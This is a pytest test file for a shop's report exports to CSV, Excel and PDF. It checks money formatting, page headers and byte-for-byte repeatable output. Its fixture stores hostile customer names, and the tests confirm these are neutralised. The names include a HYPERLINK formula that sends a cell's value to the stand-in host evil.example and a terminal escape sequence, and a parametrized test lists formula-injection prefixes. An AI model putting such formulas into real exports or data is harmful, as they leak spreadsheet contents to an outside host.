"""What is handed out says what was shown, to the coin, and does nothing where it is opened."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from core.database.unit_of_work import Database
from core.model.customers import Customer
from core.model.payments import Payment, PaymentMethod, PaymentStatus
from core.money import grouped
from core.permissions import Actor
from core.services.reports.contract import (
    ColumnKind,
    ExportFormat,
    ReportName,
    ReportQuery,
)
from core.services.reports.csv_export import harmless
from core.services.reports.service import ReportsService
from core.services.reports.shown import shown_number
from core.services.settings import SettingsService, ShopSettings
from tests.core.documents import reading
from tests.core.services.conftest import SettableClock

pytestmark = pytest.mark.usefixtures("bent_books")

LIVE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LONG = "Coopérative des Producteurs de Café et de Thé Iryamukuru y’Abahujumugambi " * 3
DAY = date(2026, 6, 30)
QUERY = ReportQuery(ReportName.CUSTOMERS, DAY, DAY)


@pytest.fixture
def reports(database: Database, admin: Actor) -> ReportsService:
    """A shop that was paid in two currencies, by customers of awkward names."""
    SettingsService(database).save(admin, ShopSettings(shop_name="Isoko Ryiza"))
    with database.write(None) as unit:
        for place, name in enumerate((LIVE, LONG, "\x1b]0;owned\x07 Uwase\nAline", "#N/A")):
            customer = Customer(name=name, phone_number="+250788123456", created_at=unit.now)
            for currency, amount_minor in (("RWF", 1_234_567), ("USD", 1250)):
                unit.session.add(
                    Payment(
                        customer=customer,
                        payment_method=PaymentMethod.CASH,
                        amount_minor=amount_minor + place,
                        currency=currency,
                        status=PaymentStatus.COMPLETED,
                        created_at=datetime(2026, 6, 30, 10, tzinfo=UTC),
                        paid_at=datetime(2026, 6, 30, 10, 30, tzinfo=UTC),
                        updated_at=unit.now,
                    )
                )
        unit.commit()
    return ReportsService(database)


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_csv_is_what_excel_opens_with_a_double_click(
    reports: ReportsService, manager: Actor
) -> None:
    content = reports.export(manager, QUERY, ExportFormat.CSV)

    assert content.startswith(b"\xef\xbb\xbfcustomer_id,customer,phone,")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [(row["paid"], row["currency"]) for row in rows] == [
        ("1234570", "RWF"),
        ("1234569", "RWF"),
        ("1234568", "RWF"),
        ("1234567", "RWF"),
        ("12.53", "USD"),
        ("12.52", "USD"),
        ("12.51", "USD"),
        ("12.50", "USD"),
    ]
    assert {row["phone"] for row in rows} == {"+250788123456"}
    assert {row["last_payment"] for row in rows} == {"2026-06-30 12:30:00"}
    assert f"'{LIVE}" in {row["customer"] for row in rows}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\r"])
def test_no_text_becomes_a_formula(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "Aline", "+250788123456", "INV-20260701-00001", "a=b"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_workbook_holds_numbers_days_and_text(reports: ReportsService, manager: Actor) -> None:
    sheet = workbook(reports.export(manager, QUERY, ExportFormat.XLSX)).worksheets[0]

    head, *rows = sheet.iter_rows()
    assert [cell.value for cell in head][:3] == ["Number", "Customer", "Telephone"]
    assert sheet.freeze_panes == "A2"
    francs, dollars = rows[1], rows[5]
    assert (francs[4].value, francs[4].number_format) == (1_234_569, "#,##0")
    assert (Decimal(str(dollars[4].value)), dollars[4].number_format) == (
        Decimal("12.52"),
        "#,##0.00",
    )
    assert str(francs[7].value) == "2026-06-30 12:30:00"
    names = [row[1] for row in rows[:8]]
    assert {cell.data_type for cell in names} == {"s"}
    assert {LIVE, "#N/A"} <= {cell.value for cell in names}
    totals = {row[8].value: Decimal(str(row[4].value)) for row in rows[8:]}
    assert totals == {"RWF": 4_938_274, "USD": Decimal("50.06")}
    assert all(row[0].value == "Total" and row[4].font.bold for row in rows[8:])


def test_a_workbook_stores_the_exact_decimal_and_no_formula(
    reports: ReportsService, manager: Actor
) -> None:
    content = reports.export(manager, QUERY, ExportFormat.XLSX)

    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>12.52</v>" in sheet
    assert "<f>" not in sheet


def test_paper_shows_every_amount_and_every_name_whole(
    reports: ReportsService, manager: Actor
) -> None:
    content = reports.export(manager, QUERY, ExportFormat.PDF)

    text = reading.squeezed(content)
    report = reports.run(manager, QUERY)
    for row in (*report.rows, *report.totals):
        for cell, column in zip(row.cells, report.columns, strict=True):
            if isinstance(cell, int) and column.kind is ColumnKind.AMOUNT:
                assert grouped(cell, row.currency).replace("\u202f", "") in text
    assert "".join(LONG.split()) in text
    assert "30June2026" in text
    assert "Page1of" in text
    assert reading.outside(content, 20) == []
    assert reading.overlapping(content) == []
    about = reading.metadata(content)
    assert (about["Title"], about["Author"]) == ("Customers", "Isoko Ryiza")


def test_a_long_table_has_its_head_on_every_page(database: Database, manager: Actor) -> None:
    with database.write(None) as unit:
        for number in range(90):
            unit.session.add(
                Payment(
                    customer=Customer(name=f"Customer {number}", created_at=unit.now),
                    payment_method=PaymentMethod.CARD,
                    amount_minor=1000 + number,
                    status=PaymentStatus.COMPLETED,
                    created_at=unit.now,
                    paid_at=unit.now,
                    updated_at=unit.now,
                )
            )
        unit.commit()
    today = date(2026, 7, 1)
    query = ReportQuery(ReportName.CUSTOMERS, today, today)

    pages = reading.pages(ReportsService(database).export(manager, query, ExportFormat.PDF))

    assert len(pages) > 3
    assert all("Customer Phone" in page or "Customer Payments" in page for page in pages)
    assert all(f"Page {at + 1} of {len(pages)}" in page for at, page in enumerate(pages))
    assert "As of 1 July 2026, 10:00" in pages[0]


@pytest.mark.parametrize("name", ReportName)
@pytest.mark.parametrize("format_", ExportFormat)
def test_a_day_that_is_over_is_handed_out_the_same_byte_for_byte(
    reports: ReportsService,
    manager: Actor,
    clock: SettableClock,
    name: ReportName,
    format_: ExportFormat,
) -> None:
    query = ReportQuery(name, DAY, DAY)
    first = reports.export(manager, query, format_)
    clock.advance(days=40)

    assert reports.export(manager, query, format_) == first


@pytest.mark.parametrize(
    ("number", "kind", "currency", "text"),
    [
        (15000, ColumnKind.AMOUNT, "RWF", "15\u202f000"),
        (-1250, ColumnKind.AMOUNT, "USD", "\u221212.50"),
        (9725, ColumnKind.SHARE, "", "97.25 %"),
        (850, ColumnKind.DURATION_MS, "", "850 ms"),
        (90_000, ColumnKind.DURATION_MS, "", "1 min 30 s"),
        (7_500_000, ColumnKind.DURATION_MS, "", "2 h 5 min"),
        (90_000_000, ColumnKind.DURATION_MS, "", "1 d 1 h"),
    ],
)
def test_figures_in_words(number: int, kind: ColumnKind, currency: str, text: str) -> None:
    assert shown_number(number, kind, currency) == text
